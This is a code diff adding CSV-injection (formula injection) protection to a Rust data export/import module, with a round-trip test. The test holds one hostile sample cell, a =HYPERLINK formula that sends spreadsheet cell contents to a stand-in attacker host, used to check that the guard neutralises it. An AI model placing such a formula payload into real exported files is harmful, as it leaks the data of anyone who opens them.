@@ -24,6 +24,13 @@
 //! people `name.* title.* affiliation.* role`; figures `label.* value unit qualifier`;
 //! sources `file title publisher published language url quote` (`*` is `en`, `zh` or `fr`).
 //!
+//! # Formulas
+//! Spreadsheet programs run a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
+//! return as a formula (`=HYPERLINK(…)`), so export puts a single quote before such a cell
+//! (the OWASP rule for CSV injection), and import removes exactly that quote. A cell whose
+//! text already starts with quotes followed by one of those characters gets one more, so
+//! `JSON → CSV → JSON` stays lossless: `=1+1` is written `'=1+1`, `'=1+1` is written `''=1+1`.
+//!
 //! Plain Rust: errors name the row (as a spreadsheet numbers it, header = row 1), the
 //! column and what was expected.
 
@@ -81,6 +88,32 @@ impl fmt::Display for CsvError {
     }
 }
 
+/// What a spreadsheet program reads as the start of a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether `cell` is written with a guarding quote: it starts (after any quotes of its own)
+/// with a character that starts a formula.
+fn needs_guard(cell: &str) -> bool {
+    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
+}
+
+/// The cell as exported: a single quote before text a spreadsheet would run as a formula.
+pub fn guard_formula(cell: String) -> String {
+    if needs_guard(&cell) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+/// The cell as imported: the guarding quote [`guard_formula`] added, removed.
+pub fn unguard_formula(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_guard(rest) => rest,
+        _ => cell,
+    }
+}
+
 /// The spreadsheet row that holds `events[index]` in an exported or imported file.
 pub fn row_of_event(index: usize) -> u64 {
     index as u64 + 2
@@ -95,7 +128,7 @@ pub fn export_csv(dataset: &Dataset) -> String {
     let mut write = |fields: Vec<String>| writer.write_record(&fields).is_ok();
     let mut complete = write(COLUMNS.iter().map(|column| column.to_string()).collect());
     for event in &dataset.events {
-        complete &= write(event_fields(event));
+        complete &= write(event_fields(event).into_iter().map(guard_formula).collect());
     }
     let bytes = writer.into_inner().unwrap_or_default();
     debug_assert!(complete);
@@ -284,7 +317,7 @@ impl<'a> RowCells<'a> {
         self.column_index
             .get(column)
             .and_then(|&index| self.record.get(index))
-            .unwrap_or("")
+            .map_or("", unguard_formula)
     }
 }
 
@@ -669,6 +702,38 @@ mod tests {
         assert!(Record::parse("no equals sign")
             .unwrap_err()
             .contains("is not key=value"));
+    }
+
+    #[test]
+    fn formulas_are_exported_as_text_and_imported_back_exactly() {
+        let mut dataset = crate::data::embedded_dataset().unwrap(); // ok: the embedded dataset is valid
+        dataset.events.truncate(1);
+        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        dataset.events[0].title.en = hostile.into();
+        dataset.events[0].title.fr = "+33 1 23".into();
+        dataset.events[0].title.zh = "''@SUM(1)".into();
+        dataset.events[0].note = "-1".into();
+        dataset.events[0].date_note = "\tindent".into();
+        dataset.events[0].summary.fr = "'plain quote".into();
+        let csv = export_csv(&dataset);
+        assert!(csv.contains(",\"'=HYPERLINK("), "{csv}");
+        assert!(csv.contains(",'+33 1 23,"), "{csv}");
+        assert!(csv.contains(",'''@SUM(1),"), "{csv}");
+        assert!(csv.contains(",'-1\r\n"), "{csv}");
+        assert!(csv.contains(",\"'\tindent\",") || csv.contains(",'\tindent,"), "{csv}");
+        assert!(csv.contains(",'plain quote,"), "{csv}");
+        // No cell of a data row starts with a formula character.
+        let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                // ok: test data
+                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
+            }
+        }
+        assert_eq!(import_csv(&csv).unwrap().events, dataset.events); // ok: test data
+        assert_eq!(unguard_formula("'x"), "'x");
+        assert_eq!(unguard_formula("'=x"), "=x");
+        assert_eq!(unguard_formula("''=x"), "'=x");
     }
 
     #[test]
